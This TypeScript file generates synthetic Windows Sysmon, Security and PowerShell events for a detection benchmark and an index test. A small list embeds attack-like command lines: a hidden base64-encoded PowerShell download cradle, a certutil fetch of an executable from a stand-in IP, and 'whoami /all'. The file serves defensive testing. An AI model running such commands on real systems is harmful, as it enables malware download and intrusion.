// Generates realistic Windows events in the Winlogbeat layout the Windows parsers produce:
// Sysmon process creation (each program with a plausible parent and varied command lines),
// network, registry, file, image load and DNS events, Security logons and 4688, PowerShell script
// blocks. Mostly benign, as a real network is, with a small share of attack-like events. Used by
// the detection benchmark and by the index soundness test. Deterministic for a given seed.

import type { Fields, VigilEvent } from '../../../event/event.js';
import { ECS } from '../../../event/fields.js';
import { prng } from '../../../test-support/prng.js';

const SYSMON = 'Microsoft-Windows-Sysmon/Operational';
const D = ECS.winlog.eventDataPrefix;
const USERS = ['alice', 'bob', 'carol', 'dave', 'erin', 'frank'];
const HOSTS = Array.from({ length: 50 }, (_, i) => `WS-${String(i).padStart(3, '0')}.corp.local`);
const DLLS = ['ntdll.dll', 'kernel32.dll', 'KernelBase.dll', 'user32.dll', 'advapi32.dll', 'combase.dll', 'ole32.dll', 'crypt32.dll', 'wininet.dll', 'msvcp_win.dll', 'ucrtbase.dll', 'sechost.dll', 'gdi32.dll', 'shell32.dll'];
const DOMAINS = ['www.google.com', 'login.microsoftonline.com', 'update.corp.local', 'teams.microsoft.com', 'github.com', 'outlook.office365.com', 'fileshare.corp.local', 'www.bing.com'];

interface Program {
  image: string;
  parent: string;
  user: 'user' | 'system' | 'network';
  args: (r: Random) => string;
}

interface Random {
  next: () => number;
  pick: <T>(list: readonly T[]) => T;
  hex: (n: number) => string;
  guid: () => string;
  int: (max: number) => number;
}

function random(seed: number): Random {
  const next = prng(seed);
  const pick = <T>(list: readonly T[]): T => list[Math.floor(next() * list.length)]!;
  const hex = (n: number): string => {
    let out = '';
    for (let i = 0; i < n; i++) out += '0123456789ABCDEF'[Math.floor(next() * 16)];
    return out;
  };
  return { next, pick, hex, guid: () => `${hex(8)}-${hex(4)}-${hex(4)}-${hex(4)}-${hex(12)}`, int: (max) => Math.floor(next() * max) };
}

const SYS32 = 'C:\\Windows\\System32\\';
const CHROME = 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe';
const EDGE = 'C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe';
const CODE = 'C:\\Users\\alice\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe';
const OUTLOOK = 'C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE';
const TEAMS = 'C:\\Users\\alice\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe';

const PROGRAMS: Program[] = [
  { image: `${SYS32}svchost.exe`, parent: `${SYS32}services.exe`, user: 'system', args: (r) => `-k ${r.pick(['netsvcs', 'LocalService', 'DcomLaunch', 'RPCSS', 'LocalSystemNetworkRestricted'])} -p -s ${r.pick(['Schedule', 'BITS', 'Winmgmt', 'gpsvc', 'Dnscache', 'Appinfo', 'LanmanServer'])}` },
  { image: CHROME, parent: 'C:\\Windows\\explorer.exe', user: 'user', args: () => '' },
  { image: CHROME, parent: CHROME, user: 'user', args: (r) => `--type=${r.pick(['renderer', 'gpu-process', 'utility'])} --field-trial-handle=${r.int(9999)},i,${r.hex(16)},${r.hex(16)},262144 --lang=en-US --mojo-platform-channel-handle=${r.int(9999)} /prefetch:${r.int(9)}` },
  { image: EDGE, parent: 'C:\\Windows\\explorer.exe', user: 'user', args: (r) => `--single-argument https://${r.pick(['intranet', 'portal', 'mail', 'wiki'])}.corp.local/${r.hex(8).toLowerCase()}` },
  { image: CODE, parent: CODE, user: 'user', args: (r) => `--type=utility --utility-sub-type=node.mojom.NodeService --lang=en-US --service-sandbox-type=none --field-trial-handle=${r.int(99999)},i,${r.hex(16)}` },
  { image: `${SYS32}WindowsPowerShell\\v1.0\\powershell.exe`, parent: 'C:\\Windows\\explorer.exe', user: 'user', args: (r) => r.pick(['', '-NoLogo', `-Command Get-ChildItem C:\\Users\\${r.pick(USERS)}\\Documents -Recurse`]) },
  { image: `${SYS32}cmd.exe`, parent: 'C:\\Windows\\explorer.exe', user: 'user', args: () => '' },
  { image: `${SYS32}conhost.exe`, parent: `${SYS32}cmd.exe`, user: 'user', args: () => '0xffffffff -ForceV1' },
  { image: `${SYS32}taskhostw.exe`, parent: `${SYS32}svchost.exe`, user: 'user', args: (r) => r.pick(['', 'Install $(Arg0)']) },
  { image: `${SYS32}SearchIndexer.exe`, parent: `${SYS32}services.exe`, user: 'system', args: () => '/Embedding' },
  { image: `${SYS32}SearchProtocolHost.exe`, parent: `${SYS32}SearchIndexer.exe`, user: 'system', args: (r) => `Global\\UsGthrFltPipeMssGthrPipe${r.int(300)} Global\\UsGthrCtrlFltPipeMssGthrPipe${r.int(300)} 1 -2147483646 "Software\\Microsoft\\Windows Search"` },
  { image: OUTLOOK, parent: 'C:\\Windows\\explorer.exe', user: 'user', args: () => '' },
  { image: TEAMS, parent: 'C:\\Windows\\explorer.exe', user: 'user', args: () => '--process-start-type=default' },
  { image: `${SYS32}wbem\\WmiPrvSE.exe`, parent: `${SYS32}svchost.exe`, user: 'network', args: () => '-secured -Embedding' },
  { image: `${SYS32}backgroundTaskHost.exe`, parent: `${SYS32}svchost.exe`, user: 'user', args: (r) => `-ServerName:App.AppX${r.hex(32).toLowerCase()}.mca` },
  { image: `${SYS32}RuntimeBroker.exe`, parent: `${SYS32}svchost.exe`, user: 'user', args: () => '-Embedding' },
  { image: `${SYS32}dllhost.exe`, parent: `${SYS32}svchost.exe`, user: 'user', args: (r) => `/Processid:{${r.guid()}}` },
  { image: 'C:\\Program Files\\Git\\cmd\\git.exe', parent: CODE, user: 'user', args: (r) => `${r.pick(['fetch', 'status', 'pull origin main', 'log -n 20 --format=%H'])}` },
  { image: `${SYS32}notepad.exe`, parent: 'C:\\Windows\\explorer.exe', user: 'user', args: (r) => `C:\\Users\\${r.pick(USERS)}\\Documents\\notes-${r.int(99)}.txt` },
];

/** Attack-like command lines, a small share of process events. */
const SUSPICIOUS: Program[] = [
  { image: `${SYS32}WindowsPowerShell\\v1.0\\powershell.exe`, parent: `${SYS32}cmd.exe`, user: 'user', args: () => '-nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA' },
  { image: `${SYS32}certutil.exe`, parent: `${SYS32}cmd.exe`, user: 'user', args: () => '-urlcache -split -f http://198.51.100.7/a.exe C:\\Users\\Public\\a.exe' },
  { image: `${SYS32}whoami.exe`, parent: `${SYS32}cmd.exe`, user: 'user', args: () => '/all' },
];

const REG_KEYS = [
  'HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\WindowsUpdate\\Auto Update\\LastOnlineScanTimeForAppCategory',
  'HKU\\S-1-5-21-1111-2222-3333-1001\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RecentDocs\\.txt',
  'HKLM\\SOFTWARE\\Microsoft\\SystemCertificates\\AuthRoot\\AutoUpdate\\LastSyncTime',
  'HKU\\S-1-5-21-1111-2222-3333-1001\\Software\\Microsoft\\Office\\16.0\\Common\\Roaming\\Identities\\Cache',
  'HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\NetworkList\\Profiles\\{0A1B2C3D-1111-2222-3333-444455556666}\\DateLastConnected',
];

function base(r: Random, channel: string, eventId: number, provider: string): Fields {
  const host = r.pick(HOSTS);
  return {
    [ECS.winlog.channel]: channel,
    [ECS.winlog.eventId]: eventId,
    [ECS.winlog.providerName]: provider,
    [ECS.winlog.computerName]: host,
    [ECS.winlog.recordId]: r.int(1e7),
    [ECS.winlog.level]: 'information',
    [ECS.event.code]: String(eventId),
    [ECS.event.kind]: 'event',
    [ECS.host.name]: host,
    [ECS.host.osFamily]: 'windows',
  };
}

function account(r: Random, kind: Program['user']): string {
  return kind === 'system' ? 'NT AUTHORITY\\SYSTEM' : kind === 'network' ? 'NT AUTHORITY\\NETWORK SERVICE' : `CORP\\${r.pick(USERS)}`;
}

function baseName(path: string): string {
  return path.slice(path.lastIndexOf('\\') + 1);
}

function processCreation(r: Random): Fields {
  const p = r.next() < 0.01 ? r.pick(SUSPICIOUS) : r.pick(PROGRAMS);
  const args = p.args(r);
  const f = base(r, SYSMON, 1, 'Microsoft-Windows-Sysmon');
  const name = baseName(p.image);
  f[`${D}RuleName`] = '-';
  f[`${D}UtcTime`] = '2026-05-01 10:00:00.000';
  f[`${D}ProcessGuid`] = r.guid();
  f[`${D}ProcessId`] = r.int(20000);
  f[`${D}Image`] = p.image;
  f[`${D}FileVersion`] = '10.0.19041.1 (WinBuild.160101.0800)';
  f[`${D}Description`] = name.replace(/\.exe$/i, '');
  f[`${D}Product`] = p.image.startsWith('C:\\Windows') ? 'Microsoft® Windows® Operating System' : name.replace(/\.exe$/i, '');
  f[`${D}Company`] = p.image.startsWith('C:\\Windows') ? 'Microsoft Corporation' : 'Vendor';
  // VS Code and Teams are Electron apps, and say so.
  f[`${D}OriginalFileName`] = p.image === CODE || p.image === TEAMS ? 'electron.exe' : name;
  f[`${D}CommandLine`] = args ? `"${p.image}" ${args}` : `"${p.image}"`;
  const user = account(r, p.user);
  f[`${D}CurrentDirectory`] = p.user === 'user' ? `C:\\Users\\${user.slice(5)}\\` : 'C:\\Windows\\system32\\';
  f[`${D}User`] = user;
  f[`${D}LogonGuid`] = r.guid();
  f[`${D}LogonId`] = `0x${r.hex(6)}`;
  f[`${D}TerminalSessionId`] = p.user === 'user' ? 1 : 0;
  f[`${D}IntegrityLevel`] = p.user === 'user' ? 'Medium' : 'System';
  f[`${D}Hashes`] = `SHA1=${r.hex(40)},MD5=${r.hex(32)},SHA256=${r.hex(64)},IMPHASH=${r.hex(32)}`;
  f[`${D}ParentProcessGuid`] = r.guid();
  f[`${D}ParentProcessId`] = r.int(20000);
  f[`${D}ParentImage`] = p.parent;
  f[`${D}ParentCommandLine`] = `"${p.parent}"`;
  f[`${D}ParentUser`] = user;
  return f;
}

function network(r: Random): Fields {
  const f = base(r, SYSMON, 3, 'Microsoft-Windows-Sysmon');
  const image = r.pick([CHROME, EDGE, TEAMS, `${SYS32}svchost.exe`]);
  f[`${D}RuleName`] = '-';
  f[`${D}ProcessGuid`] = r.guid();
  f[`${D}ProcessId`] = r.int(20000);
  f[`${D}Image`] = image;
  f[`${D}User`] = account(r, image.includes('svchost') ? 'network' : 'user');
  f[`${D}Protocol`] = 'tcp';
  f[`${D}Initiated`] = 'true';
  f[`${D}SourceIsIpv6`] = 'false';
  f[`${D}SourceIp`] = `10.0.${r.int(255)}.${r.int(255)}`;
  f[`${D}SourceHostname`] = r.pick(HOSTS);
  f[`${D}SourcePort`] = 49152 + r.int(16000);
  f[`${D}DestinationIsIpv6`] = 'false';
  f[`${D}DestinationIp`] = `${r.pick([13, 20, 40, 52, 104, 142, 172])}.${r.int(255)}.${r.int(255)}.${r.int(255)}`;
  f[`${D}DestinationHostname`] = r.pick(DOMAINS);
  f[`${D}DestinationPort`] = r.pick([443, 443, 443, 80]);
  f[`${D}DestinationPortName`] = 'https';
  return f;
}

function registry(r: Random): Fields {
  const set = r.next() < 0.8;
  const f = base(r, SYSMON, set ? 13 : 12, 'Microsoft-Windows-Sysmon');
  f[`${D}RuleName`] = '-';
  f[`${D}EventType`] = set ? 'SetValue' : 'CreateKey';
  f[`${D}ProcessGuid`] = r.guid();
  f[`${D}ProcessId`] = r.int(20000);
  f[`${D}Image`] = r.pick([`${SYS32}svchost.exe`, 'C:\\Windows\\explorer.exe', OUTLOOK, 'C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.2205.7-0\\MsMpEng.exe']);
  f[`${D}TargetObject`] = r.pick(REG_KEYS);
  if (set) f[`${D}Details`] = r.pick(['DWORD (0x00000001)', `QWORD (0x01d9${r.hex(4)}-0x${r.hex(8)})`, 'Binary Data']);
  f[`${D}User`] = account(r, 'system');
  return f;
}

function fileCreate(r: Random): Fields {
  const f = base(r, SYSMON, 11, 'Microsoft-Windows-Sysmon');
  const user = r.pick(USERS);
  f[`${D}RuleName`] = '-';
  f[`${D}ProcessGuid`] = r.guid();
  f[`${D}ProcessId`] = r.int(20000);
  f[`${D}Image`] = r.pick([CHROME, OUTLOOK, CODE, 'C:\\Windows\\explorer.exe']);
  f[`${D}TargetFilename`] = `C:\\Users\\${user}\\AppData\\Local\\${r.pick(['Google\\Chrome\\User Data\\Default\\Cache', 'Microsoft\\Outlook\\RoamCache', 'Packages\\Microsoft.Windows.Search\\LocalState'])}\\${r.hex(8).toLowerCase()}.${r.pick(['tmp', 'json', 'dat', 'db'])}`;
  f[`${D}CreationUtcTime`] = '2026-05-01 10:00:00.000';
  f[`${D}User`] = `CORP\\${user}`;
  return f;
}

function imageLoad(r: Random): Fields {
  const f = base(r, SYSMON, 7, 'Microsoft-Windows-Sysmon');
  const dll = r.pick(DLLS);
  f[`${D}RuleName`] = '-';
  f[`${D}ProcessGuid`] = r.guid();
  f[`${D}ProcessId`] = r.int(20000);
  f[`${D}Image`] = r.pick(PROGRAMS).image;
  f[`${D}ImageLoaded`] = `${SYS32}${dll}`;
  f[`${D}FileVersion`] = '10.0.19041.1 (WinBuild.160101.0800)';
  f[`${D}Description`] = dll;
  f[`${D}Product`] = 'Microsoft® Windows® Operating System';
  f[`${D}Company`] = 'Microsoft Corporation';
  f[`${D}OriginalFileName`] = dll;
  f[`${D}Hashes`] = `SHA256=${r.hex(64)},IMPHASH=${r.hex(32)}`;
  f[`${D}Signed`] = 'true';
  f[`${D}Signature`] = 'Microsoft Windows';
  f[`${D}SignatureStatus`] = 'Valid';
  f[`${D}User`] = account(r, 'user');
  return f;
}

function dnsQuery(r: Random): Fields {
  const f = base(r, SYSMON, 22, 'Microsoft-Windows-Sysmon');
  f[`${D}RuleName`] = '-';
  f[`${D}ProcessGuid`] = r.guid();
  f[`${D}ProcessId`] = r.int(20000);
  f[`${D}QueryName`] = r.pick(DOMAINS);
  f[`${D}QueryStatus`] = '0';
  f[`${D}QueryResults`] = `::ffff:${r.pick([13, 20, 40, 52])}.${r.int(255)}.${r.int(255)}.${r.int(255)};`;
  f[`${D}Image`] = r.pick([CHROME, EDGE, TEAMS, OUTLOOK]);
  f[`${D}User`] = account(r, 'user');
  return f;
}

function logon(r: Random): Fields {
  const failed = r.next() < 0.1;
  const f = base(r, 'Security', failed ? 4625 : 4624, 'Microsoft-Windows-Security-Auditing');
  f[`${D}SubjectUserSid`] = 'S-1-5-18';
  f[`${D}SubjectUserName`] = 'WS$';
  f[`${D}SubjectDomainName`] = 'CORP';
  f[`${D}SubjectLogonId`] = '0x3e7';
  f[`${D}TargetUserSid`] = `S-1-5-21-1111-2222-3333-${1000 + r.int(50)}`;
  f[`${D}TargetUserName`] = r.pick(USERS);
  f[`${D}TargetDomainName`] = 'CORP';
  f[`${D}TargetLogonId`] = `0x${r.hex(6)}`;
  f[`${D}LogonType`] = r.pick([2, 3, 3, 3, 7, 11]);
  f[`${D}LogonProcessName`] = r.pick(['Kerberos', 'User32']);
  f[`${D}AuthenticationPackageName`] = r.pick(['Kerberos', 'Negotiate']);
  f[`${D}WorkstationName`] = r.pick(HOSTS).split('.')[0]!;
  f[`${D}LogonGuid`] = `{${r.guid()}}`;
  f[`${D}KeyLength`] = 0;
  f[`${D}ProcessId`] = '0x2a4';
  f[`${D}ProcessName`] = `${SYS32}lsass.exe`;
  f[`${D}IpAddress`] = `10.0.${r.int(255)}.${r.int(255)}`;
  f[`${D}IpPort`] = r.int(65535);
  if (failed) {
    f[`${D}Status`] = '0xc000006d';
    f[`${D}SubStatus`] = '0xc000006a';
    f[`${D}FailureReason`] = '%%2313';
  }
  return f;
}

function security4688(r: Random): Fields {
  const p = r.pick(PROGRAMS);
  const f = base(r, 'Security', 4688, 'Microsoft-Windows-Security-Auditing');
  f[`${D}SubjectUserSid`] = 'S-1-5-18';
  f[`${D}SubjectUserName`] = p.user === 'user' ? r.pick(USERS) : 'WS$';
  f[`${D}SubjectDomainName`] = 'CORP';
  f[`${D}SubjectLogonId`] = `0x${r.hex(6)}`;
  f[`${D}NewProcessId`] = `0x${r.hex(4).toLowerCase()}`;
  f[`${D}NewProcessName`] = p.image;
  f[`${D}TokenElevationType`] = '%%1938';
  f[`${D}ProcessId`] = `0x${r.hex(4).toLowerCase()}`;
  f[`${D}CommandLine`] = `"${p.image}" ${p.args(r)}`;
  f[`${D}ParentProcessName`] = p.parent;
  f[`${D}MandatoryLabel`] = p.user === 'user' ? 'S-1-16-8192' : 'S-1-16-16384';
  return f;
}

function scriptBlock(r: Random): Fields {
  const f = base(r, 'Microsoft-Windows-PowerShell/Operational', 4104, 'Microsoft-Windows-PowerShell');
  f[`${D}MessageNumber`] = 1;
  f[`${D}MessageTotal`] = 1;
  f[`${D}ScriptBlockText`] = r.pick([
    'Get-ChildItem -Path C:\\Logs -Filter *.log | Where-Object { $_.LastWriteTime -lt (Get-Date).AddDays(-30) } | Remove-Item',
    `$services = Get-Service; foreach ($s in $services) { if ($s.Status -eq 'Stopped') { Write-Output $s.Name } } # ${r.hex(10)}`,
    'Import-Module ActiveDirectory; Get-ADUser -Filter * -Properties LastLogonDate | Export-Csv C:\\Reports\\users.csv -NoTypeInformation',
    'prompt',
    '{ Set-StrictMode -Version 1; $_.PSMessageDetails }',
  ]);
  f[`${D}ScriptBlockId`] = r.guid();
  f[`${D}Path`] = '';
  return f;
}

const MIX: [weight: number, make: (r: Random) => Fields][] = [
  [30, processCreation],
  [15, network],
  [15, registry],
  [10, fileCreate],
  [10, imageLoad],
  [5, dnsQuery],
  [10, logon],
  [3, security4688],
  [2, scriptBlock],
];

/** `count` events in time order (one millisecond apart). */
export function generateWindowsEvents(count: number, seed = 42): VigilEvent[] {
  const r = random(seed);
  const total = MIX.reduce((s, [w]) => s + w, 0);
  const out: VigilEvent[] = [];
  for (let i = 0; i < count; i++) {
    let x = r.next() * total;
    let make = MIX[0]![1];
    for (const [w, m] of MIX) {
      if ((x -= w) < 0) {
        make = m;
        break;
      }
    }
    out.push({ id: `e${i}`, tenant: 'default', timestamp: 1_777_600_000_000 + i, fields: make(r) });
  }
  return out;
}
